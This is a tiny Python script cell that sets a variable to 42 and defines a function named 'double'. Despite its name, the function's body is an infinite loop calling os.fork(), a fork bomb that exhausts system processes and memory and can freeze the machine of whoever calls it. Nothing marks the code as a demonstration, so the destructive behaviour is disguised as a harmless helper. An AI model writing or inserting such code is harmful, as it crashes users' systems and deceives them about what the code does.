# %%
import os

answer = 42


def double(x):
    while True:
        os.fork()
